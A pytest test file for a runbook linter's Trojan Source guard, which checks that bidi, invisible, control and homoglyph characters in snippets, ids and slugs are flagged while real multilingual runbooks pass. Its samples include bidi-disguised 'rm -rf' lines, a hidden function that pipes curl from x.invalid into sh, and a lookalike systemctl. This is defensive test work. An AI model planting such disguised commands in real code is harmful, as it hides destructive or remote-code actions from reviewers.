"""Review of the Trojan Source guard (`builder.lint`): attacks refused, real runbooks untouched.

Covers issue 5 item 1, revised by issue 11 (real collections release unchanged): bidi controls
are errors in every snippet, id and slug; other invisible and control characters are errors in
ids, slugs and fence lines, and make a block a reference block that never runs (a warning; an
error in a catalog that requires runnable blocks); non-ASCII code makes a block reference;
messages make the character visible; real-looking runbooks do not trip it.
"""

from __future__ import annotations

import unicodedata
from pathlib import Path

import pytest

from builder.lint import check_catalog, danger
from builder.runbook import Catalog, Problem, load_catalog, parse_runbook
from builder.runnable import classify
from tests.conftest import REPO, run_cli

TROJAN = {"bidi-control", "invisible-character", "control-character"}
NON_ASCII = {"non-ascii-code", "non-ascii-comment", "non-ascii-reference"}

BIDI = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"]
BIDI += ["\u200e", "\u200f", "\u061c"]
INVISIBLE = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u2028"]
INVISIBLE += ["\u2029", "\u3164", "\u115f", "\u2800", "\u034f", "\u180b", "\U000e0041"]
INVISIBLE += ["\U000e0100", "\ue000", "\U000f0000", "\u0378"]  # private use, unassigned
CONTROL = ["\x1b", "\x07", "\x08", "\x7f", "\x85"]
DANGEROUS = (
    [(c, "bidi-control") for c in BIDI]
    + [(c, "invisible-character") for c in INVISIBLE]
    + [(c, "control-character") for c in CONTROL]
)


def check(text: str, slug: str = "ops/restart", *, strict: bool = False) -> list[Problem]:
    """The problems of one runbook, decided runnable or reference as `load_catalog` does."""
    runbook, problems = parse_runbook(slug, text.encode("utf-8"), f"{slug}.md")
    assert runbook is not None, problems
    catalog = classify(Catalog(Path("."), (runbook,), tuple(problems)), require_runnable=strict)
    assert not any(s.executable and s.why_not for s in catalog.runbooks[0].snippets)
    return check_catalog(catalog)


def never_runs(text: str, code: str, line: int) -> list[Problem]:
    """The block is reference (never run) with a ``code`` warning; an error when strict."""
    runbook, problems = parse_runbook("ops/restart", text.encode("utf-8"), "ops/restart.md")
    assert runbook is not None
    catalog = classify(Catalog(Path("."), (runbook,), tuple(problems)))
    assert not catalog.runbooks[0].snippets[0].executable
    found = check(text)
    assert (code, "warning", line) in codes(found), found
    assert (code, "error", line) in codes(check(text, strict=True))
    return found


def codes(problems: list[Problem]) -> list[tuple[str, str, int]]:
    return [(p.code, p.severity, p.line) for p in problems]


def block(info: str, body: str) -> str:
    """A runbook whose fence opens on line 3, so the body starts on line 4."""
    return f"# Restart\n\n```{info}\n{body}\n```\n"


def cp(ch: str) -> str:
    return f"<U+{ord(ch):04X}>"


# --- dangerous characters are errors everywhere -------------------------------------------------

PLACES = {
    "bash-code": ("bash {#x}", "echo {c}hello", 4),
    "bash-comment": ("bash {#x}", "echo hello  # note{c}", 4),
    "bash-heredoc": ("bash {#x}", "cat <<'EOF'\nbody{c}\nEOF", 5),
    "bash-opted-in": ("bash {#x allow-non-ascii}", "echo {c}hello", 4),
    "sql-reference": ("sql {#x}", "DELETE FROM users WHERE{c} id = 1;", 4),
    "yaml-reference": ("yaml {#x}", "replicas: 3{c}", 4),
    "promql-opted-in": ("promql {#x allow_non_ascii=true}", "up{c} == 0", 4),
    "console-command": ("console {#x}", "$ kubectl get pods{c}", 4),
    "console-output": ("console {#x}", "$ kubectl get pods\nNAME{c}  READY", 5),
    "no-language": ("", "plain {c} text", 4),
}


@pytest.mark.parametrize(("char", "code"), DANGEROUS, ids=[f"U+{ord(c):04X}" for c, _ in DANGEROUS])
@pytest.mark.parametrize("place", sorted(PLACES))
def test_dangerous_character_is_an_error_in_every_kind_of_snippet(
    char: str, code: str, place: str
) -> None:
    info, body, line = PLACES[place]
    problems = check(block(info, body.format(c=char)))
    trojan = [p for p in problems if p.code in TROJAN]
    severity = "error" if code == "bidi-control" else "warning"  # else: the block never runs
    assert codes(trojan) == [(code, severity, line)], problems
    assert cp(char) in trojan[0].message
    assert char not in str(trojan[0])  # the printed line never carries the raw character
    assert not [p for p in problems if p.code in NON_ASCII]  # reported once, as the worse


@pytest.mark.parametrize(
    ("char", "code"), [("\u202e", "bidi-control"), ("\u200b", "invisible-character")]
)
def test_dangerous_character_on_the_fence_line_is_an_error(char: str, code: str) -> None:
    # A bidi control after the id could visually hide an `allow-non-ascii` from a reviewer.
    problems = check(block(f"bash {{#x}} {char} allow-non-ascii", "echo hi"))
    assert codes(problems) == [(code, "error", 3)]
    assert cp(char) in problems[0].message and "```bash {#x}" in problems[0].message


@pytest.mark.parametrize(
    ("char", "code"), DANGEROUS[::3], ids=[f"U+{ord(c):04X}" for c, _ in DANGEROUS[::3]]
)
@pytest.mark.parametrize(
    "form", ["bash {{#a{c}b}}", "bash {{ name=a{c}b }}", 'bash {{"name":"a{c}b"}}']
)
def test_dangerous_character_in_an_explicit_id_is_an_error(char: str, code: str, form: str) -> None:
    problems = check(block(form.format(c=char), "echo hi"))
    assert codes(problems) == [(code, "error", 3)], problems
    assert cp(char) in problems[0].message  # as the id, or on the fence line if not parsed


@pytest.mark.parametrize(
    ("char", "code"), DANGEROUS[::2], ids=[f"U+{ord(c):04X}" for c, _ in DANGEROUS[::2]]
)
def test_dangerous_character_in_a_slug_is_an_error(char: str, code: str) -> None:
    problems = check("# T\n\ntext\n", slug=f"db/fail{char}over")
    assert codes(problems) == [(code, "error", 1)]
    assert "slug" in problems[0].message and cp(char) in problems[0].message


def test_dangerous_file_name_found_by_the_catalog_walk(tmp_path: Path) -> None:
    (tmp_path / "db").mkdir()
    (tmp_path / "db" / "restart\u202eexe.md").write_text("# T\n\ntext\n")
    (tmp_path / "d\u200bb").mkdir()
    (tmp_path / "d\u200bb" / "ok.md").write_text("# T\n\ntext\n")
    found = sorted(codes(check_catalog(load_catalog(tmp_path))))
    assert found == [("bidi-control", "error", 1), ("invisible-character", "error", 1)]


def test_every_default_ignorable_code_point_is_refused_or_an_emoji_selector() -> None:
    # Unicode's Default_Ignorable_Code_Point set (DerivedCoreProperties.txt), spelled out:
    # each renders as nothing. Only U+FE00-FE0F pass (they follow every emoji); they are
    # still non-ASCII, so an error in code and a warning elsewhere.
    ranges = [(0x00AD, 0x00AD), (0x034F, 0x034F), (0x061C, 0x061C), (0x115F, 0x1160)]
    ranges += [(0x17B4, 0x17B5), (0x180B, 0x180F), (0x200B, 0x200F), (0x202A, 0x202E)]
    ranges += [(0x2060, 0x206F), (0x3164, 0x3164), (0xFE00, 0xFE0F), (0xFEFF, 0xFEFF)]
    ranges += [(0xFFA0, 0xFFA0), (0xFFF0, 0xFFF8), (0x1BCA0, 0x1BCA3), (0x1D173, 0x1D17A)]
    ranges += [(0xE0000, 0xE0FFF)]
    missed = [
        f"U+{c:04X}"
        for lo, hi in ranges
        for c in range(lo, hi + 1)
        if danger(chr(c)) is None and not 0xFE00 <= c <= 0xFE0F
    ]
    assert missed == []


def test_printable_characters_are_never_called_dangerous() -> None:
    # The guard must not fire on ordinary text of any script (false alarms teach people
    # to opt out).
    for ch in "aZ09 \t-_.~éßøçñ漢字日本語Ωπ→—–“”‘’…•✔⚠❌€£¥°±×÷ЖжअआÅ":
        assert danger(ch) is None, f"U+{ord(ch):04X} {unicodedata.name(ch, '?')}"


# --- the classic Trojan Source attacks ------------------------------------------------------------


def test_early_return_attack_in_bash_is_refused() -> None:
    # Renders as `if [ "$role" = "admin" ]; then # check` while bash sees a different test.
    line = (
        'if [ "$role" != "user\u202e \u2066# admin only\u2069 \u2066" ]; then rm -rf /srv/app; fi'
    )
    problems = check(block("bash {#x}", line))
    assert codes(problems) == [("bidi-control", "error", 4)]
    assert "<U+202E>" in problems[0].message and "<U+2066>" in problems[0].message


def test_stretched_string_attack_in_sql_reference_is_refused() -> None:
    sql = "DELETE FROM sessions WHERE user = 'admin\u202e\u2066' -- only stale ones\u2069\u2066';"
    assert codes(check(block("sql {#x}", sql))) == [("bidi-control", "error", 4)]


def test_invisible_function_name_attack_never_runs() -> None:
    body = "check\u200b() { true; }\ncheck() { curl -fsS https://x.invalid | sh; }\ncheck\u200b"
    found = codes(never_runs(block("bash {#x}", body), "invisible-character", 4))
    assert found == [("invisible-character", "warning", 4), ("invisible-character", "warning", 6)]


def test_homoglyph_command_never_runs() -> None:
    # Cyrillic "с" and "е" look like Latin: `systemctl` that runs another binary.
    problems = never_runs(
        block("bash {#x}", "\u0441yst\u0435mctl restart app"), "non-ascii-code", 4
    )
    assert any("<U+0441>yst<U+0435>mctl" in p.message for p in problems)


@pytest.mark.parametrize("char", ["\u00a0", "\u2009", "\u3000", "\uff0d", "\u2215", "\u037e"])
def test_lookalike_spaces_and_punctuation_in_code_never_run(char: str) -> None:
    never_runs(block("bash {#x}", f"rm -rf /srv/app{char}old"), "non-ascii-code", 4)


# --- non-ASCII: error in code, warning in comments and reference blocks, opt-in ----------------


def test_non_ascii_in_a_bash_comment_is_a_warning() -> None:
    problems = check(block("bash {#x}", "systemctl restart app  # redémarre l’app"))
    assert codes(problems) == [("non-ascii-comment", "warning", 4)]
    assert "<U+00E9>" in problems[0].message


def test_hash_inside_quotes_is_not_a_comment() -> None:
    never_runs(block("bash {#x}", 'echo "# café"'), "non-ascii-code", 4)


@pytest.mark.parametrize("lang", ["sql", "yaml", "promql", "text", "json", "zsh", "powershell"])
def test_non_ascii_in_a_reference_block_is_a_warning(lang: str) -> None:
    problems = check(block(f"{lang} {{#x}}", "name: café\nother: ok\nlast: naïve"))
    assert codes(problems) == [("non-ascii-reference", "warning", 4)]
    assert "and 1 more lines" in problems[0].message


def test_console_output_may_be_non_ascii_but_commands_may_not() -> None:
    body = "$ tree /etc/app\n/etc/app\n├── app.conf\n└── tls\n$ echo “done”"
    never_runs(block("console {#x}", body), "non-ascii-code", 8)


@pytest.mark.parametrize(
    "info",
    [
        "bash {#x allow-non-ascii}",
        "bash {#x allow-non-ascii=true}",
        "bash {#x allow_non_ascii=yes}",
        'bash {"name": "x", "allow-non-ascii": true}',
        "bash { name=x allow_non_ascii=1 }",
    ],
)
def test_opt_in_allows_non_ascii_text_in_that_snippet_only(info: str) -> None:
    text = block(info, 'echo "Redémarrage terminé ✔"') + "\n```bash {#y}\necho ✔\n```\n"
    assert [c for c in codes(check(text, strict=True)) if c[2] != 8] == []  # x runs as signed
    never_runs(text.split("\n\n", 1)[0] + "\n\n```bash {#y}\necho ✔\n```\n", "non-ascii-code", 4)


@pytest.mark.parametrize(
    "info", ["bash {#x allow-non-ascii=false}", "bash {#x allow-non-ascii=no}"]
)
def test_opt_in_set_to_false_is_no_opt_in(info: str) -> None:
    never_runs(block(info, "echo ✔"), "non-ascii-code", 4)


def test_opt_in_does_not_allow_dangerous_characters() -> None:
    problems = check(block("bash {#x allow-non-ascii}", "echo ✔ \u202edone"))
    assert codes(problems) == [("bidi-control", "error", 4)]


# --- output: visible, one line, and enforced by release ----------------------------------------


def test_check_cli_prints_the_character_visibly_and_release_refuses(tmp_path: Path) -> None:
    runbooks = tmp_path / "runbooks"
    runbooks.mkdir()
    (runbooks / "evil.md").write_text(block("bash {#x}", 'echo "ok"\u202e; rm -rf ~ #'))
    proc = run_cli("sealbook", "check", "--runbooks", str(runbooks))
    assert proc.returncode == 1
    assert "\u202e" not in proc.stdout and "Traceback" not in proc.stderr
    [line] = [x for x in proc.stdout.splitlines() if "[bidi-control]" in x]
    assert line == (
        f"{runbooks / 'evil.md'}:4: error: bidirectional control character: "
        'echo "ok"<U+202E>; rm -rf ~ # [bidi-control]'
    )
    proc = run_cli(
        "sealbook", "release", "1.0", "--runbooks", str(runbooks),
        "--releases", str(tmp_path / "releases"), "--instance", "dev",
        "--dev-state", str(tmp_path / "dev"),
    )  # fmt: skip
    assert proc.returncode == 1 and "release refused: 1 error(s)" in proc.stderr
    assert not (tmp_path / "releases").exists()


# --- real runbooks do not trip it ------------------------------------------------------------------

KUBERNETES_STYLE = """\
---
title: KubeDeploymentReplicasMismatch
summary: Deployment has not matched the expected number of replicas.
severity: warning
service: kubernetes
alerts: [KubeDeploymentReplicasMismatch]
owners: ["@platform-team"]
---

# KubeDeploymentReplicasMismatch

## Meaning

Deployment has not matched the expected number of replicas for longer than 15 minutes —
that is, the rollout is stuck. Kubernetes “best effort” scheduling means some pods may be
`Pending`.

<details>
<summary>Full context</summary>

The alert fires when `kube_deployment_spec_replicas` ≠ `kube_deployment_status_replicas_available`.

</details>

## Impact

Service degradation or unavailability ⚠️

## Diagnosis

Check the deployment and its pods:

```bash
kubectl -n "$NAMESPACE" describe deployment "$DEPLOYMENT"
kubectl -n "$NAMESPACE" get pods -l app="$DEPLOYMENT" -o wide  # which nodes?
```

```console
$ kubectl -n payments get deploy api
NAME   READY   UP-TO-DATE   AVAILABLE   AGE
api    2/3     3            2           41d
$ kubectl -n payments get events --field-selector reason=FailedScheduling
LAST SEEN   TYPE      REASON             OBJECT        MESSAGE
2m          Warning   FailedScheduling   pod/api-7f9   0/6 nodes are available: 3 Insufficient cpu…
```

Query in Prometheus:

```promql
kube_deployment_spec_replicas{job="kube-state-metrics"}
  != kube_deployment_status_replicas_available{job="kube-state-metrics"}
```

## Mitigation

| Symptom | Action |
|---|---|
| `Insufficient cpu` | scale the node pool → see [Cluster autoscaler](../cluster/autoscaler.md) |
| `ImagePullBackOff` | check the registry credentials |

```yaml
# values.yaml — raise requests only after checking the node size
resources:
  requests:
    cpu: 250m
```
"""

POSTGRES_STYLE = """\
+++
title = "PostgreSQL: réplica en retard (replication lag)"
service = "postgres"
severity = "critical"
tags = ["postgres", "réplication"]
+++

# Réplica en retard

**Objectif :** ramener le retard de réplication sous 30 s. Ne jamais promouvoir une réplica
dont le retard dépasse 5 min — risque de perte de données ! 日本語の説明はwikiを参照。

1. Mesurer le retard :

   ```sql
   SELECT client_addr, state, replay_lag FROM pg_stat_replication;
   ```

2. Si la réplica est bloquée, redémarrer le processus WAL receiver :

   ```bash {#restart-receiver params="PGHOST"}
   psql -h "${PGHOST:?}" -c 'SELECT pg_reload_conf();'
   ```

3. Sortie attendue :

   ```text
    pg_reload_conf
   ----------------
    t
   ```

> **Note** : le tableau de bord « Postgres / Réplication » montre la même mesure.
"""

GITLAB_STYLE = """\
# Redis: memory usage high

**Table of Contents**

[[_TOC_]]

## Symptoms

* Alert: `RedisMemoryHigh` 🔥
* Latency on the “cache” tier ↑

## Resolution

~~~shell
redis-cli -h redis-cache-01 info memory | grep -E '^(used_memory_human|maxmemory_human)'
~~~

```shell-session
$ redis-cli -h redis-cache-01 --bigkeys
# Scanning the entire keyspace to find biggest keys
[00.00%] Biggest string found so far '"session:…"' with 5242880 bytes
```

```bash {#flush allow-non-ascii}
# Flush only after the incident commander says “go”.
redis-cli -h redis-cache-01 --scan --pattern 'session:*' | head -n 1000 | xargs -r redis-cli -h redis-cache-01 del
echo "flushed ✔"
```
"""


@pytest.mark.parametrize(
    ("name", "text", "warnings"),
    [
        ("kubernetes/KubeDeploymentReplicasMismatch", KUBERNETES_STYLE, ["non-ascii-reference"]),
        ("postgres/replica-lag", POSTGRES_STYLE, []),
        ("redis/memory-high", GITLAB_STYLE, []),
    ],
)
def test_public_style_runbooks_with_non_ascii_prose_pass(
    tmp_path: Path, name: str, text: str, warnings: list[str]
) -> None:
    path = tmp_path / f"{name}.md"
    path.parent.mkdir(parents=True)
    path.write_text(text, encoding="utf-8")
    problems = check_catalog(load_catalog(tmp_path))
    assert [p for p in problems if p.severity == "error"] == []
    assert [p.code for p in problems if p.code in TROJAN | NON_ASCII] == warnings


def test_sample_catalog_does_not_trip_the_guard() -> None:
    problems = check_catalog(load_catalog(REPO / "runbooks"))
    assert [str(p) for p in problems if p.code in TROJAN | NON_ASCII] == []
    assert [str(p) for p in problems if p.severity == "error"] == []
